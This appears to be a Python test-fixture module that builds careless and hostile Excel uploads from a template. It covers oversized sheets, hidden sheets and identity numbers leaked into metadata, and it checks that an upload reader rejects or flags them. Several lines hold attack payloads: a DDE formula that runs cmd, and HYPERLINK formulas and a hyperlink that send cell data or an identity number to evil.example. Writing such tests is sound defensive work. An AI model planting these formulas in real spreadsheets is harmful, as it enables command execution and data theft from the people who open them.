"""Builders of bad and hostile workbooks, each made from a contract's downloaded template.

Every builder takes the template's bytes and returns a workbook an officer (careless) or an
attacker could upload. The template's sheets: Values (A metric, B name, C unit, D period,
E area, F value, G comment) and Participants (A id, B metric, C name, D period, E date, F area).
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date

import openpyxl
from openpyxl.worksheet.hyperlink import Hyperlink

from outcomes.workbook.sheetscan import sheet_parts

#: Skatteverket's published test identity numbers: valid check digits, nobody's real number.
PERSON_A = "19121212-1212"
PERSON_B = "811218-9876"
#: Every form in which they could leak.
FORMS = ("19121212-1212", "191212121212", "121212-1212", "1212121212",
         "811218-9876", "8112189876", "198112189876")  # fmt: skip
GOOD_VALUE = ("SAFE", "2027", None, 57.5, "Survey autumn 2027")
BAD_VALUE = ("SAFE", "2028", None, 140, None)  # a percentage over 100: the file is rejected
GOOD_PARTICIPANT = (PERSON_A, "EMP6", "2027", date(2027, 10, 2), "Alby")


def leaks(text: str) -> list[str]:
    """The identity numbers (in any form) the text holds."""
    return [form for form in FORMS if form in text]


def archive_text(data: bytes) -> str:
    """Every part of an .xlsx decompressed, as text."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "\n".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist())


def filled(template: bytes, values=(), participants=(), edit=None) -> bytes:
    """The template with rows written under its headers, then `edit(book)` applied."""
    book = openpyxl.load_workbook(io.BytesIO(template))
    sheet = book["Values"]
    for row, (metric, period, area, value, comment) in enumerate(values, start=2):
        sheet[f"A{row}"], sheet[f"D{row}"], sheet[f"E{row}"] = metric, period, area
        sheet[f"F{row}"], sheet[f"G{row}"] = value, comment
    sheet = book["Participants"]
    for row, (person, metric, period, achieved_on, area) in enumerate(participants, start=2):
        sheet[f"A{row}"], sheet[f"B{row}"], sheet[f"D{row}"] = person, metric, period
        sheet[f"E{row}"], sheet[f"F{row}"] = achieved_on, area
    if edit:
        edit(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewritten(data: bytes, sheet: str, change) -> bytes:
    """Copy an archive with `change(xml) -> xml` applied to one sheet's part."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        part = sheet_parts(source)[sheet]
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
            for info in source.infolist():
                content = source.read(info)
                target.writestr(info, change(content) if info.filename == part else content)
    return out.getvalue()


# --- sheets that reach too far -----------------------------------------------------------


def far_cell(template: bytes) -> bytes:
    """One number in the last cell Excel has: the fast reader would ask for 550 GB."""

    def edit(book):
        book["Values"]["XFD1048576"] = 1

    return filled(template, [GOOD_VALUE], edit=edit)


def far_cell_on_instructions(template: bytes) -> bytes:
    def edit(book):
        book["Instructions"]["XFD5"] = "x"

    return filled(template, [GOOD_VALUE], edit=edit)


def declared_dimension(template: bytes) -> bytes:
    """The sheet claims A1:XFD1048576 although its cells stop at G1001."""
    data = filled(template, [GOOD_VALUE])
    return rewritten(
        data,
        "Values",
        lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml),
    )


def cells_without_places(template: bytes) -> bytes:
    """A row of 1,025 cells that give no place: the last lands in column AMK (1025)."""
    row = b'<row r="2000">' + b'<c t="n"><v>1</v></c>' * 1025 + b"</row>"
    data = filled(template, [GOOD_VALUE])
    return rewritten(
        data, "Values", lambda xml: xml.replace(b"</sheetData>", row + b"</sheetData>")
    )


# --- sheets that hide or double data -----------------------------------------------------


def hidden_values(template: bytes) -> bytes:
    def edit(book):
        book["Values"].sheet_state = "hidden"

    return filled(template, [GOOD_VALUE], [GOOD_PARTICIPANT], edit=edit)


def second_values(template: bytes) -> bytes:
    """A second Values sheet (Värden) whose rows would be left out."""

    def edit(book):
        copy = book.copy_worksheet(book["Values"])
        copy.title = "Värden"
        copy["D2"] = "2028"

    return filled(template, [GOOD_VALUE], edit=edit)


def renamed_participants(template: bytes) -> bytes:
    """The Participants sheet under a name the reader does not know."""

    def edit(book):
        book["Participants"].title = "Deltagare 2027"

    return filled(template, [GOOD_VALUE], [GOOD_PARTICIPANT], edit=edit)


def notes_sheet(template: bytes) -> bytes:
    """An officer's own notes sheet: not read, and said so."""

    def edit(book):
        book.create_sheet("Notes")["A1"] = "Figures checked by Anna"

    return filled(template, [GOOD_VALUE], edit=edit)


# --- cells that would act, and merged cells ------------------------------------------------

DDE = "=cmd|' /C calc'!A0"
EXFILTRATE = '=HYPERLINK("https://evil.example/?q="&A2,"Click")'


def live_formulas(template: bytes) -> bytes:
    """DDE and HYPERLINK formulas and text that starts like one; rejected for the DDE value."""

    def edit(book):
        sheet = book["Values"]
        sheet["F2"], sheet["G2"] = DDE, EXFILTRATE
        sheet["G3"] = "@SUM(1,1)"
        sheet["H2"] = "+1+1"

    return filled(template, [GOOD_VALUE, GOOD_VALUE[:1] + ("2028", None, 60, None)], edit=edit)


def merged_value_cells(template: bytes) -> bytes:
    """F2:F3 merged: row 3's value is empty, so its error lands on a cell inside the merge."""

    def edit(book):
        book["Values"].merge_cells("F2:F3")

    return filled(template, [GOOD_VALUE, ("SAFE", "2028", None, None, None)], edit=edit)


# --- identity numbers where nobody looks ---------------------------------------------------


def number_in_hyperlink(template: bytes) -> bytes:
    def edit(book):
        book["Values"]["G3"].hyperlink = Hyperlink(
            ref="G3", target=f"https://evil.example/?pnr={PERSON_A.replace('-', '')}"
        )
        book["Values"]["G3"].value = "see file"

    return filled(template, [GOOD_VALUE, BAD_VALUE], edit=edit)


def number_in_sheet_name(template: bytes) -> bytes:
    def edit(book):
        book.create_sheet(f"Ringd {PERSON_B}")["A1"] = "called back"

    return filled(template, [GOOD_VALUE, BAD_VALUE], edit=edit)


def number_in_document_properties(template: bytes) -> bytes:
    def edit(book):
        book.properties.title = f"Uppföljning {PERSON_A}"
        book.properties.creator = f"handläggare {PERSON_B}"
        book.properties.keywords = PERSON_A.replace("-", "")

    return filled(template, [GOOD_VALUE, BAD_VALUE], edit=edit)


def number_in_comments(template: bytes) -> bytes:
    """Accepted: an identity number in a Values comment and in the officer's cell comment."""
    from openpyxl.comments import Comment

    def edit(book):
        book["Values"]["A2"].comment = Comment(f"asked {PERSON_B}", f"officer {PERSON_A}")

    return filled(template, [GOOD_VALUE[:4] + (f"Ringde {PERSON_A} i oktober",)], edit=edit)


def number_in_a_bad_value(template: bytes) -> bytes:
    return filled(template, [GOOD_VALUE[:3] + (PERSON_B, None)])


def number_in_a_header(template: bytes) -> bytes:
    """A header the reader still understands ("Value (...)"), holding an identity number."""

    def edit(book):
        book["Values"]["F1"] = f"Value ({PERSON_B})"
        book["Values"]["H1"] = f"Asked {PERSON_A}"

    return filled(template, [GOOD_VALUE, BAD_VALUE], edit=edit)
